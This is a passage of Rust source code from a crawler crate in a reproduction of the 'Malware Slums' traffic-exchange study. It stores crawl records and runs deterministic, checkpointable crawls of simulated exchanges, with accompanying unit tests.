        s.push(rec("Zeta", "http://z.example.com/", 0));
        s.push(rec("Alpha", "http://a.example.com/", 0));
        s.push(rec("Mid", "http://m.example.com/", 0));
        s.push(rec("Alpha", "http://a2.example.com/", 1));
        assert_eq!(
            s.exchanges(),
            vec!["Alpha".to_string(), "Mid".to_string(), "Zeta".to_string()]
        );
    }
}
