//! The crawl-record store.

use std::collections::BTreeSet;

use crate::record::CrawlRecord;

/// An in-memory store of crawl records with the aggregate queries the
/// dataset assembly needs.
#[derive(Debug, Default, Clone)]
pub struct RecordStore {
    records: Vec<CrawlRecord>,
}

impl RecordStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        RecordStore::default()
    }

    /// Appends a record.
    pub fn push(&mut self, record: CrawlRecord) {
        self.records.push(record);
    }

    /// Appends many records.
    pub fn extend(&mut self, records: impl IntoIterator<Item = CrawlRecord>) {
        self.records.extend(records);
    }

    /// All records.
    pub fn records(&self) -> &[CrawlRecord] {
        &self.records
    }

    /// Total visit count.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// Records for one exchange.
    pub fn by_exchange<'a>(&'a self, exchange: &'a str) -> impl Iterator<Item = &'a CrawlRecord> {
        self.records.iter().filter(move |r| r.exchange == exchange)
    }

    /// Exchange names present, sorted.
    pub fn exchanges(&self) -> Vec<String> {
        let set: BTreeSet<String> =
            self.records.iter().map(|r| r.exchange.clone()).collect();
        set.into_iter().collect()
    }

    /// Count of distinct surfed URLs (full canonical form, query
    /// included — the paper's 306,895 "distinct URLs").
    pub fn distinct_urls(&self) -> usize {
        let set: BTreeSet<String> =
            self.records.iter().map(|r| r.url.canonical()).collect();
        set.len()
    }

    /// Count of distinct registered domains (the paper's 17,448).
    pub fn distinct_domains(&self) -> usize {
        let set: BTreeSet<String> = self.records.iter().map(|r| r.domain()).collect();
        set.len()
    }

    /// Serializes to JSON-lines.
    ///
    /// # Errors
    ///
    /// Propagates serde failures.
    pub fn to_jsonl(&self) -> Result<String, serde_json::Error> {
        let mut out = String::new();
        for r in &self.records {
            out.push_str(&serde_json::to_string(r)?);
            out.push('\n');
        }
        Ok(out)
    }

    /// Parses a store from JSON-lines.
    ///
    /// # Errors
    ///
    /// Fails on any malformed line.
    pub fn from_jsonl(input: &str) -> Result<RecordStore, serde_json::Error> {
        let mut store = RecordStore::new();
        for line in input.lines().filter(|l| !l.trim().is_empty()) {
            store.push(serde_json::from_str(line)?);
        }
        Ok(store)
    }
}

impl FromIterator<CrawlRecord> for RecordStore {
    fn from_iter<T: IntoIterator<Item = CrawlRecord>>(iter: T) -> Self {
        let mut store = RecordStore::new();
        store.extend(iter);
        store
    }
}

impl Extend<CrawlRecord> for RecordStore {
    fn extend<T: IntoIterator<Item = CrawlRecord>>(&mut self, iter: T) {
        self.records.extend(iter);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_browser::har::HarLog;
    use slum_websim::Url;

    fn rec(exchange: &str, url: &str, seq: u64) -> CrawlRecord {
        let u = Url::parse(url).unwrap();
        CrawlRecord {
            exchange: exchange.into(),
            seq,
            at: seq,
            url: u.clone(),
            final_url: u,
            redirect_hops: 0,
            chain_hosts: vec![],
            via_shortener: false,
            via_js_redirect: false,
            content: None,
            download_filenames: vec![],
            har: HarLog::new(),
            failed: false,
        }
    }

    #[test]
    fn distinct_counts() {
        let mut s = RecordStore::new();
        s.push(rec("A", "http://x.example.com/p?sid=1", 0));
        s.push(rec("A", "http://x.example.com/p?sid=2", 1));
        s.push(rec("A", "http://x.example.com/p?sid=1", 2));
        s.push(rec("B", "http://y.example.net/", 0));
        assert_eq!(s.len(), 4);
        assert_eq!(s.distinct_urls(), 3);
        assert_eq!(s.distinct_domains(), 2);
        assert_eq!(s.exchanges(), vec!["A".to_string(), "B".to_string()]);
        assert_eq!(s.by_exchange("A").count(), 3);
    }

    #[test]
    fn jsonl_round_trip() {
        let mut s = RecordStore::new();
        for i in 0..5 {
            // Distinct registered domains (subdomains of one domain would
            // collapse in distinct_domains()).
            s.push(rec("X", &format!("http://site{i}-example.com/"), i));
        }
        let jsonl = s.to_jsonl().unwrap();
        assert_eq!(jsonl.lines().count(), 5);
        let back = RecordStore::from_jsonl(&jsonl).unwrap();
        assert_eq!(back.len(), 5);
        assert_eq!(back.distinct_domains(), 5);
    }

    #[test]
    fn from_iterator_collects() {
        let s: RecordStore =
            (0..3).map(|i| rec("Z", &format!("http://d{i}.example.org/"), i)).collect();
        assert_eq!(s.len(), 3);
    }

    #[test]
    fn malformed_jsonl_errors() {
        assert!(RecordStore::from_jsonl("{not json}").is_err());
    }
}
