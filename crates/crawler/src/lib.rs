//! # slum-crawler
//!
//! The measurement crawler of the `malware-slums` reproduction of
//! *Malware Slums* (DSN 2016).
//!
//! The paper registered fresh accounts on nine traffic exchanges and
//! crawled them for months: auto-surf exchanges were logged passively
//! from the browser as pages rotated, manual-surf exchanges were
//! clicked through by hand (hence far fewer pages), and all traffic was
//! captured via Firebug/NetExport as HAR. This crate reproduces that
//! procedure over the simulated exchanges:
//!
//! - [`record`] / [`store`] — the per-visit crawl records (URL, redirect
//!   chain, captured content, HAR) and their store;
//! - [`drive`] — the auto-surf and manual-surf crawl drivers, including
//!   the scripted CAPTCHA operator;
//! - [`run`] — multi-exchange orchestration (one worker per exchange,
//!   crossbeam-scoped);
//! - [`burst`] — the paid-campaign burst-validation experiment client
//!   ($5 → 2,500 visits, §IV).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod burst;
pub mod drive;
pub mod record;
pub mod run;
pub mod store;

pub use drive::{crawl_exchange, CrawlConfig};
pub use record::CrawlRecord;
pub use run::crawl_all;
pub use store::RecordStore;
