//! # slum-crawler
//!
//! The measurement crawler of the `malware-slums` reproduction of
//! *Malware Slums* (DSN 2016).
//!
//! The paper registered fresh accounts on nine traffic exchanges and
//! crawled them for months: auto-surf exchanges were logged passively
//! from the browser as pages rotated, manual-surf exchanges were
//! clicked through by hand (hence far fewer pages), and all traffic was
//! captured via Firebug/NetExport as HAR. This crate reproduces that
//! procedure over the simulated exchanges:
//!
//! - [`record`] / [`store`] — the per-visit crawl records (URL, redirect
//!   chain, captured content, HAR) and their store;
//! - [`drive`] — the auto-surf and manual-surf crawl drivers, including
//!   the scripted CAPTCHA operator;
//! - [`run`] — multi-exchange orchestration (one worker per exchange,
//!   crossbeam-scoped), including the resilient and checkpoint-segmented
//!   variants;
//! - [`fault`] — named crawl-fault profiles (exchange outages, bans,
//!   CAPTCHA lockouts, permanent shutdowns, session drops) and the
//!   per-exchange crawl-health log;
//! - [`burst`] — the paid-campaign burst-validation experiment client
//!   ($5 → 2,500 visits, §IV).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod burst;
pub mod drive;
pub mod fault;
pub mod record;
pub mod run;
pub mod store;

pub use drive::{crawl_exchange, CrawlConfig, CrawlCursor};
pub use fault::{CrawlFaultProfile, CrawlHealth};
pub use record::CrawlRecord;
pub use run::{
    crawl_all, crawl_all_resilient, crawl_all_segmented, crawl_all_streaming,
    replay_restored_loads, CrawlCheckpointState, CrawlPlan, RecordChunk,
};
pub use slum_exchange::TrafficSource;
pub use store::{JsonlError, RecordStore};
