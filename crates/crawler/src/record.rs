//! The per-visit crawl record.

use serde::{Deserialize, Serialize};

use slum_browser::har::HarLog;
use slum_browser::{LoadResult, RedirectKind};
use slum_websim::Url;

/// Everything the crawler logs for one surfed URL — the unit the
/// analysis pipeline consumes.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CrawlRecord {
    /// Exchange the URL was surfed on.
    pub exchange: String,
    /// Visit sequence number within the exchange's crawl.
    pub seq: u64,
    /// Virtual timestamp of the visit (seconds).
    pub at: u64,
    /// The URL the surfbar opened.
    pub url: Url,
    /// URL that finally served content after redirects.
    pub final_url: Url,
    /// Number of redirect hops traversed.
    pub redirect_hops: u32,
    /// Hosts along the redirect chain (from → ... → final), deduplicated
    /// in order.
    pub chain_hosts: Vec<String>,
    /// Whether the chain included a shortener resolution.
    pub via_shortener: bool,
    /// Whether the chain included a JS-driven hop.
    pub via_js_redirect: bool,
    /// Captured page content (the *browser's* view — what the paper
    /// downloaded "to our local storage" to upload to scanners).
    pub content: Option<String>,
    /// Executable downloads triggered during the load.
    pub download_filenames: Vec<String>,
    /// HAR capture of the load.
    pub har: HarLog,
    /// Load failed (404 / hop-limit).
    pub failed: bool,
}

impl CrawlRecord {
    /// Builds a record from a browser load.
    pub fn from_load(exchange: &str, seq: u64, at: u64, load: &LoadResult) -> CrawlRecord {
        let mut chain_hosts: Vec<String> = Vec::new();
        let mut push_host = |h: &str| {
            if chain_hosts.last().map(String::as_str) != Some(h) {
                chain_hosts.push(h.to_string());
            }
        };
        push_host(load.requested_url.host());
        for hop in &load.chain {
            push_host(hop.to.host());
        }
        push_host(load.final_url.host());

        CrawlRecord {
            exchange: exchange.to_string(),
            seq,
            at,
            url: load.requested_url.clone(),
            final_url: load.final_url.clone(),
            redirect_hops: load.redirect_count(),
            chain_hosts,
            via_shortener: load.chain.iter().any(|h| h.kind == RedirectKind::Shortener),
            via_js_redirect: load.chain.iter().any(|h| h.kind == RedirectKind::JsLocation),
            content: load.html.clone(),
            download_filenames: load.downloads.iter().map(|d| d.filename.clone()).collect(),
            har: load.har.clone(),
            failed: load.failed,
        }
    }

    /// The registered domain of the surfed URL.
    pub fn domain(&self) -> String {
        self.url.registered_domain()
    }

    /// The registered domain of the final URL.
    pub fn final_domain(&self) -> String {
        self.final_url.registered_domain()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_browser::Browser;
    use slum_websim::build::WebBuilder;
    use slum_websim::{ContentCategory, Tld};

    #[test]
    fn record_from_redirect_chain_load() {
        let mut b = WebBuilder::new(120);
        let spec = b.redirect_chain_site(3, Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let load = Browser::new(&web).at_time(42).load(&spec.url);
        let rec = CrawlRecord::from_load("10KHits", 7, 42, &load);

        assert_eq!(rec.exchange, "10KHits");
        assert_eq!(rec.seq, 7);
        assert_eq!(rec.at, 42);
        assert_eq!(rec.redirect_hops, 3);
        assert!(rec.chain_hosts.len() >= 2);
        assert_eq!(rec.chain_hosts.first().map(String::as_str), Some(spec.url.host()));
        assert!(rec.content.is_some());
        assert!(!rec.failed);
    }

    #[test]
    fn record_serializes_round_trip() {
        let mut b = WebBuilder::new(121);
        let site = b.benign_site(Default::default());
        let web = b.finish();
        let load = Browser::new(&web).load(&site.url);
        let rec = CrawlRecord::from_load("Otohits", 0, 0, &load);
        let json = serde_json::to_string(&rec).unwrap();
        let back: CrawlRecord = serde_json::from_str(&json).unwrap();
        assert_eq!(back.url, rec.url);
        assert_eq!(back.har, rec.har);
    }

    #[test]
    fn chain_hosts_deduplicate_consecutive() {
        let mut b = WebBuilder::new(122);
        let site = b.benign_site(Default::default());
        let web = b.finish();
        let load = Browser::new(&web).load(&site.url);
        let rec = CrawlRecord::from_load("x", 0, 0, &load);
        assert_eq!(rec.chain_hosts.len(), 1, "{:?}", rec.chain_hosts);
    }
}
