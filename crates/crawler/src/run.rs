//! Multi-exchange crawl orchestration.
//!
//! Three entry points share one loop implementation
//! (`drive::crawl_exchange_segment`):
//!
//! - [`crawl_all`] — the historical fail-fast crawl (inert lifecycle,
//!   one unbounded segment per exchange);
//! - [`crawl_all_resilient`] — the same, but under a named
//!   [`CrawlFaultProfile`], returning per-exchange [`CrawlHealth`];
//! - [`crawl_all_segmented`] — bounded rounds with a checkpoint sink
//!   between them, resumable from a [`CrawlCheckpointState`].
//!
//! All three merge per-exchange stores in exchange input order, so the
//! merged record stream is independent of thread scheduling.

use crossbeam::thread;

use slum_exchange::lifecycle::ExchangeLifecycle;
use slum_exchange::Exchange;
use slum_websim::SyntheticWeb;

use crate::drive::{
    crawl_exchange_segment, estimated_exchange_span_secs, CrawlConfig, CrawlCursor, CrawlStats,
};
use crate::fault::{CrawlFaultProfile, CrawlHealth};
use crate::record::CrawlRecord;
use crate::store::RecordStore;

/// The RNG seed for the `index`-th exchange's crawl stream, derived
/// from the study seed exactly as the original per-thread crawl did.
pub fn exchange_crawl_seed(base_seed: u64, index: usize) -> u64 {
    base_seed.wrapping_add(index as u64 * 7919)
}

/// Per-exchange crawl plan: the loop configuration plus the compiled
/// lifecycle-fault schedule. Shared by the segmented and streaming
/// drivers so every mode crawls from identical plans.
fn crawl_plans<F>(
    exchanges: &[Exchange],
    base_seed: u64,
    profile: &CrawlFaultProfile,
    step_fn: F,
) -> Vec<(CrawlConfig, ExchangeLifecycle)>
where
    F: Fn(&Exchange) -> u64,
{
    exchanges
        .iter()
        .enumerate()
        .map(|(i, x)| {
            let steps = step_fn(x);
            let config = CrawlConfig {
                steps,
                seed: exchange_crawl_seed(base_seed, i),
                ..Default::default()
            };
            let span = estimated_exchange_span_secs(x, steps);
            let lifecycle = profile.compile_for(x, base_seed, span);
            (config, lifecycle)
        })
        .collect()
}

/// One sequence-numbered batch of records emitted by
/// [`crawl_all_streaming`]: which exchange produced it (input index),
/// where it sits in that exchange's stream, and the records themselves.
///
/// Sorting chunks by `(exchange_index, chunk_seq)` and concatenating
/// their records reproduces the merged [`RecordStore`] of
/// [`crawl_all_resilient`] exactly — the reassembly contract the
/// overlapped crawl→scan pipeline relies on.
#[derive(Debug)]
pub struct RecordChunk {
    /// Index of the producing exchange in the input slice.
    pub exchange_index: usize,
    /// 0-based position of this chunk in the exchange's stream.
    pub chunk_seq: u64,
    /// The records crawled in this segment, in crawl order.
    pub records: Vec<CrawlRecord>,
}

/// Crawls every exchange concurrently, emitting records through `sink`
/// in bounded, sequence-numbered chunks as they are produced — the
/// producer half of the overlapped crawl→scan pipeline.
///
/// Each exchange thread repeatedly advances its cursor by up to
/// `chunk_budget` surf slots (the same resumable segment driver the
/// checkpointed crawl uses) and sends the segment's records as one
/// [`RecordChunk`]; empty segments (every slot lost to faults) are
/// skipped. Records travel *only* through the channel — the caller
/// reassembles the store — so nothing is held twice. Sends block when
/// the channel is full (bounded memory) and chunk production stops if
/// every receiver is gone.
///
/// Because every fault and RNG decision is keyed to cursor position,
/// never to segment boundaries, the reassembled record stream is
/// bit-identical to [`crawl_all_resilient`] for every `chunk_budget`.
/// Returns the same per-exchange stats and health logs.
pub fn crawl_all_streaming<F>(
    web: &SyntheticWeb,
    exchanges: &mut [Exchange],
    base_seed: u64,
    profile: &CrawlFaultProfile,
    step_fn: F,
    chunk_budget: u64,
    sink: crossbeam::channel::Sender<RecordChunk>,
) -> (Vec<(String, CrawlStats)>, Vec<CrawlHealth>)
where
    F: Fn(&Exchange) -> u64 + Sync,
{
    assert!(chunk_budget > 0, "chunk budget must be positive");
    let plans = crawl_plans(exchanges, base_seed, profile, &step_fn);
    let cursors: Vec<(String, CrawlStats, CrawlHealth)> = thread::scope(|scope| {
        let handles: Vec<_> = exchanges
            .iter_mut()
            .enumerate()
            .zip(plans.iter())
            .map(|((exchange_index, exchange), (config, lifecycle))| {
                let sink = sink.clone();
                scope.spawn(move |_| {
                    let mut cursor = CrawlCursor::start(exchange, config);
                    let mut chunk_seq = 0u64;
                    while !cursor.done {
                        let mut segment = RecordStore::new();
                        crawl_exchange_segment(
                            web,
                            exchange,
                            config,
                            lifecycle,
                            &profile.retry,
                            &mut cursor,
                            &mut segment,
                            chunk_budget,
                        );
                        let records = segment.into_records();
                        if !records.is_empty()
                            && sink
                                .send(RecordChunk { exchange_index, chunk_seq, records })
                                .is_err()
                        {
                            // Every receiver is gone; keep crawling so
                            // stats/health stay complete, drop records.
                            while !cursor.done {
                                let mut rest = RecordStore::new();
                                crawl_exchange_segment(
                                    web,
                                    exchange,
                                    config,
                                    lifecycle,
                                    &profile.retry,
                                    &mut cursor,
                                    &mut rest,
                                    u64::MAX,
                                );
                            }
                            break;
                        }
                        chunk_seq += 1;
                    }
                    (cursor.exchange.clone(), cursor.stats(), cursor.health())
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().expect("crawl worker panicked")).collect()
    })
    .expect("crawl scope panicked");
    drop(sink);

    let mut stats = Vec::with_capacity(cursors.len());
    let mut health = Vec::with_capacity(cursors.len());
    for (name, s, h) in cursors {
        stats.push((name, s));
        health.push(h);
    }
    (stats, health)
}

/// Crawls every exchange concurrently — one worker thread per exchange,
/// matching how the study ran independent sessions per service — and
/// merges the per-exchange stores into one.
///
/// `step_fn` decides how many pages to log on each exchange (Table I's
/// volumes differ by two orders of magnitude between auto and manual).
pub fn crawl_all<F>(
    web: &SyntheticWeb,
    exchanges: &mut [Exchange],
    base_seed: u64,
    step_fn: F,
) -> (RecordStore, Vec<(String, CrawlStats)>)
where
    F: Fn(&Exchange) -> u64 + Sync,
{
    let (store, stats, _health) =
        crawl_all_resilient(web, exchanges, base_seed, &CrawlFaultProfile::none(), step_fn);
    (store, stats)
}

/// [`crawl_all`] under a crawl-fault profile: every exchange gets a
/// compiled lifecycle schedule and the crawl degrades (skip / retry /
/// backoff) instead of aborting when an exchange goes dark. Also
/// returns the per-exchange health logs.
pub fn crawl_all_resilient<F>(
    web: &SyntheticWeb,
    exchanges: &mut [Exchange],
    base_seed: u64,
    profile: &CrawlFaultProfile,
    step_fn: F,
) -> (RecordStore, Vec<(String, CrawlStats)>, Vec<CrawlHealth>)
where
    F: Fn(&Exchange) -> u64 + Sync,
{
    let outcome = crawl_all_segmented::<_, std::convert::Infallible>(
        web,
        exchanges,
        base_seed,
        profile,
        step_fn,
        u64::MAX,
        None,
        None,
        &mut |_, _| Ok(()),
    )
    .expect("infallible checkpoint sink");
    debug_assert!(outcome.finished);
    outcome.state.finish()
}

/// The complete resumable state of a multi-exchange crawl: one cursor
/// and one record store per exchange, in exchange input order, plus the
/// number of completed segment rounds. This is exactly what a crawl
/// checkpoint persists.
#[derive(Debug, Clone, PartialEq)]
pub struct CrawlCheckpointState {
    /// Completed segment rounds (checkpoint files are numbered by it).
    pub round: u64,
    /// Per-exchange loop cursors, in exchange input order.
    pub cursors: Vec<CrawlCursor>,
    /// Per-exchange record stores, parallel to `cursors`.
    pub stores: Vec<RecordStore>,
}

/// Line prefix marking a per-exchange cursor inside a checkpoint body.
const CURSOR_PREFIX: &str = "#cursor ";

impl CrawlCheckpointState {
    /// True once every exchange has consumed its whole slot budget.
    pub fn all_done(&self) -> bool {
        self.cursors.iter().all(|c| c.done)
    }

    /// Total records held across all per-exchange stores.
    pub fn records_total(&self) -> u64 {
        self.stores.iter().map(|s| s.len() as u64).sum()
    }

    /// Serializes the state to a checkpoint body: for each exchange, a
    /// `#cursor {json}` line followed by that exchange's records as
    /// JSON-lines.
    ///
    /// # Errors
    ///
    /// Propagates serde failures.
    pub fn to_body(&self) -> Result<String, serde_json::Error> {
        let mut out = String::new();
        for (cursor, store) in self.cursors.iter().zip(&self.stores) {
            out.push_str(CURSOR_PREFIX);
            out.push_str(&serde_json::to_string(cursor)?);
            out.push('\n');
            out.push_str(&store.to_jsonl()?);
        }
        Ok(out)
    }

    /// Parses a checkpoint body written by [`Self::to_body`].
    ///
    /// # Errors
    ///
    /// Returns `(line_number, detail)` for the first malformed line —
    /// a record before any cursor header, unparseable JSON, or a
    /// cursor/store page-count mismatch.
    pub fn from_body(round: u64, body: &str) -> Result<Self, (usize, String)> {
        let mut cursors: Vec<CrawlCursor> = Vec::new();
        let mut stores: Vec<RecordStore> = Vec::new();
        for (idx, line) in body.lines().enumerate() {
            let lineno = idx + 1;
            if line.trim().is_empty() {
                return Err((lineno, "blank line inside checkpoint body".to_string()));
            }
            if let Some(json) = line.strip_prefix(CURSOR_PREFIX) {
                let cursor: CrawlCursor = serde_json::from_str(json)
                    .map_err(|e| (lineno, format!("bad cursor: {e}")))?;
                cursors.push(cursor);
                stores.push(RecordStore::new());
            } else {
                let store = stores
                    .last_mut()
                    .ok_or_else(|| (lineno, "record before any #cursor header".to_string()))?;
                store.push(
                    serde_json::from_str(line)
                        .map_err(|e| (lineno, format!("bad record: {e}")))?,
                );
            }
        }
        if cursors.is_empty() {
            return Err((0, "checkpoint body holds no cursors".to_string()));
        }
        for (cursor, store) in cursors.iter().zip(&stores) {
            if cursor.pages != store.len() as u64 {
                return Err((
                    0,
                    format!(
                        "cursor for {} claims {} pages but body holds {} records",
                        cursor.exchange,
                        cursor.pages,
                        store.len()
                    ),
                ));
            }
        }
        Ok(CrawlCheckpointState { round, cursors, stores })
    }

    /// Consumes the state into the merged store, per-exchange stats and
    /// health logs — in exchange input order, same as [`crawl_all`].
    pub fn finish(self) -> (RecordStore, Vec<(String, CrawlStats)>, Vec<CrawlHealth>) {
        let mut merged = RecordStore::new();
        let mut stats = Vec::with_capacity(self.cursors.len());
        let mut health = Vec::with_capacity(self.cursors.len());
        for (cursor, store) in self.cursors.iter().zip(&self.stores) {
            merged.extend(store.records().iter().cloned());
            stats.push((cursor.exchange.clone(), cursor.stats()));
            health.push(cursor.health());
        }
        (merged, stats, health)
    }
}

/// Outcome of a (possibly interrupted) segmented crawl.
#[derive(Debug)]
pub struct SegmentedCrawl {
    /// The crawl state after the last completed round.
    pub state: CrawlCheckpointState,
    /// True when every exchange finished; false when stopped early by
    /// `stop_after_round`.
    pub finished: bool,
    /// Rounds executed by this call (excludes resumed-from rounds).
    pub rounds_run: u64,
}

/// Crawls every exchange in bounded segment rounds, invoking `on_round`
/// with the full crawl state after each round — the checkpoint hook.
///
/// Each round advances every unfinished exchange by up to
/// `segment_budget` surf slots, in parallel (one thread per exchange,
/// like [`crawl_all`]). Pass a `resume` state to continue an
/// interrupted crawl; pass `stop_after_round` to simulate a kill after
/// the N-th round of this call. Because every fault and RNG decision is
/// keyed to cursor position — never to segment boundaries — the merged
/// outcome is bit-identical regardless of `segment_budget`, resume
/// points, or kills.
///
/// # Errors
///
/// Propagates the first `on_round` error; the crawl stops there.
#[allow(clippy::too_many_arguments)] // orchestration facade: every knob is an explicit argument
pub fn crawl_all_segmented<F, E>(
    web: &SyntheticWeb,
    exchanges: &mut [Exchange],
    base_seed: u64,
    profile: &CrawlFaultProfile,
    step_fn: F,
    segment_budget: u64,
    resume: Option<CrawlCheckpointState>,
    stop_after_round: Option<u64>,
    on_round: &mut dyn FnMut(u64, &CrawlCheckpointState) -> Result<(), E>,
) -> Result<SegmentedCrawl, E>
where
    F: Fn(&Exchange) -> u64 + Sync,
{
    assert!(segment_budget > 0, "segment budget must be positive");
    let plans = crawl_plans(exchanges, base_seed, profile, &step_fn);

    let mut state = resume.unwrap_or_else(|| CrawlCheckpointState {
        round: 0,
        cursors: exchanges
            .iter()
            .zip(&plans)
            .map(|(x, (config, _))| CrawlCursor::start(x, config))
            .collect(),
        stores: exchanges.iter().map(|_| RecordStore::new()).collect(),
    });
    assert_eq!(state.cursors.len(), exchanges.len(), "checkpoint/exchange count mismatch");
    for (cursor, x) in state.cursors.iter().zip(exchanges.iter()) {
        assert_eq!(cursor.exchange, x.name(), "checkpoint/exchange order mismatch");
    }

    let mut rounds_run = 0u64;
    while !state.all_done() {
        thread::scope(|scope| {
            let handles: Vec<_> = exchanges
                .iter_mut()
                .zip(state.cursors.iter_mut())
                .zip(state.stores.iter_mut())
                .zip(plans.iter())
                .filter(|(((_, cursor), _), _)| !cursor.done)
                .map(|(((exchange, cursor), store), (config, lifecycle))| {
                    scope.spawn(move |_| {
                        crawl_exchange_segment(
                            web,
                            exchange,
                            config,
                            lifecycle,
                            &profile.retry,
                            cursor,
                            store,
                            segment_budget,
                        );
                    })
                })
                .collect();
            for h in handles {
                h.join().expect("crawl worker panicked");
            }
        })
        .expect("crawl scope panicked");

        state.round += 1;
        rounds_run += 1;
        on_round(state.round, &state)?;
        if stop_after_round == Some(rounds_run) && !state.all_done() {
            return Ok(SegmentedCrawl { state, finished: false, rounds_run });
        }
    }
    Ok(SegmentedCrawl { state, finished: true, rounds_run })
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_exchange::setup::build_all_exchanges;
    use slum_exchange::ExchangeKind;
    use slum_websim::build::WebBuilder;

    #[test]
    fn parallel_crawl_covers_all_nine_exchanges() {
        let mut b = WebBuilder::new(130);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 20_000);
        let web = b.finish();
        let (store, stats) = crawl_all(&web, &mut exchanges, 42, |x| {
            match x.kind() {
                ExchangeKind::AutoSurf => 60,
                ExchangeKind::ManualSurf => 15,
            }
        });
        assert_eq!(stats.len(), 9);
        assert_eq!(store.len(), 5 * 60 + 4 * 15);
        assert_eq!(store.exchanges().len(), 9);
        for (name, s) in &stats {
            let expected = if name == "10KHits"
                || name == "ManyHits"
                || name == "Smiley Traffic"
                || name == "SendSurf"
                || name == "Otohits"
            {
                60
            } else {
                15
            };
            assert_eq!(s.pages, expected, "{name}");
        }
    }

    #[test]
    fn per_exchange_metrics_cover_all_nine() {
        let mut b = WebBuilder::new(132);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
        let web = b.finish();
        let (_, stats) = crawl_all(&web, &mut exchanges, 7, |_| 20);
        let mut merged = slum_obs::LocalMetrics::new();
        for (_, s) in &stats {
            merged.merge(&s.metrics);
        }
        assert_eq!(merged.count("crawl.pages"), 9 * 20);
        let per_exchange: Vec<&str> = merged
            .iter()
            .filter(|(name, _)| name.starts_with("crawl.steps."))
            .map(|(name, _)| name)
            .collect();
        assert_eq!(per_exchange.len(), 9, "{per_exchange:?}");
    }

    #[test]
    fn parallel_crawl_is_deterministic() {
        let run = || {
            let mut b = WebBuilder::new(131);
            let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
            let web = b.finish();
            let (store, _) = crawl_all(&web, &mut exchanges, 99, |_| 25);
            let mut urls: Vec<String> =
                store.records().iter().map(|r| format!("{}|{}", r.exchange, r.url)).collect();
            urls.sort();
            urls
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn inert_resilient_crawl_reports_clean_health() {
        let mut b = WebBuilder::new(133);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
        let web = b.finish();
        let (store, stats, health) =
            crawl_all_resilient(&web, &mut exchanges, 5, &CrawlFaultProfile::none(), |_| 12);
        assert_eq!(store.len(), 9 * 12);
        assert_eq!(stats.len(), 9);
        assert_eq!(health.len(), 9);
        assert!(health.iter().all(CrawlHealth::is_clean));
        assert!(health.iter().all(|h| h.pages == 12));
    }

    #[test]
    fn faulted_crawl_degrades_but_balances_slots() {
        let mut b = WebBuilder::new(134);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
        let web = b.finish();
        let (store, _, health) = crawl_all_resilient(
            &web,
            &mut exchanges,
            5,
            &CrawlFaultProfile::harsh(),
            |_| 40,
        );
        assert!(!health.iter().all(CrawlHealth::is_clean), "harsh profile must bite");
        for h in &health {
            assert_eq!(h.pages + h.lost_steps, 40, "{}", h.exchange);
        }
        assert_eq!(store.len() as u64, health.iter().map(|h| h.pages).sum::<u64>());
    }

    /// Checkpoint rounds with a JSON round-trip between every round
    /// reproduce the one-shot crawl bit-for-bit, under both inert and
    /// active profiles.
    #[test]
    fn segmented_rounds_with_serialization_match_one_shot() {
        for profile in [CrawlFaultProfile::none(), CrawlFaultProfile::default_profile()] {
            let one_shot = {
                let mut b = WebBuilder::new(135);
                let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
                let web = b.finish();
                let (store, stats, health) =
                    crawl_all_resilient(&web, &mut exchanges, 11, &profile, |_| 30);
                (store.to_jsonl().unwrap(), stats, health)
            };

            let mut b = WebBuilder::new(135);
            let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
            let web = b.finish();
            let outcome = crawl_all_segmented::<_, String>(
                &web,
                &mut exchanges,
                11,
                &profile,
                |_| 30,
                7,
                None,
                None,
                &mut |round, state| {
                    // Round-trip the full state through the body format,
                    // as a checkpoint save + resume would.
                    let body = state.to_body().map_err(|e| e.to_string())?;
                    let back = CrawlCheckpointState::from_body(round, &body)
                        .map_err(|(l, d)| format!("line {l}: {d}"))?;
                    assert_eq!(*state, back);
                    Ok(())
                },
            )
            .expect("round-trip must parse");
            assert!(outcome.finished);
            let (store, stats, health) = outcome.state.finish();
            assert_eq!(store.to_jsonl().unwrap(), one_shot.0, "profile {}", profile.name);
            assert_eq!(stats, one_shot.1, "profile {}", profile.name);
            assert_eq!(health, one_shot.2, "profile {}", profile.name);
        }
    }

    /// Streaming chunks, reassembled by (exchange_index, chunk_seq),
    /// reproduce the one-shot merged store bit-for-bit — for every
    /// chunk budget, under both inert and active fault profiles.
    #[test]
    fn streaming_chunks_reassemble_to_one_shot_store() {
        for profile in [CrawlFaultProfile::none(), CrawlFaultProfile::default_profile()] {
            let one_shot = {
                let mut b = WebBuilder::new(136);
                let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
                let web = b.finish();
                let (store, stats, health) =
                    crawl_all_resilient(&web, &mut exchanges, 13, &profile, |_| 30);
                (store.to_jsonl().unwrap(), stats, health)
            };

            for chunk_budget in [1u64, 7, 64, 10_000] {
                let mut b = WebBuilder::new(136);
                let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
                let web = b.finish();
                let (tx, rx) = crossbeam::channel::bounded::<RecordChunk>(4);
                let (chunks, stats, health) = thread::scope(|scope| {
                    let consumer = scope.spawn(move |_| {
                        let mut chunks = Vec::new();
                        while let Ok(chunk) = rx.recv() {
                            assert!(!chunk.records.is_empty(), "empty chunks are skipped");
                            chunks.push(chunk);
                        }
                        chunks
                    });
                    let (stats, health) = crawl_all_streaming(
                        &web,
                        &mut exchanges,
                        13,
                        &profile,
                        |_| 30,
                        chunk_budget,
                        tx,
                    );
                    let chunks = consumer.join().expect("consumer panicked");
                    (chunks, stats, health)
                })
                .expect("stream scope panicked");

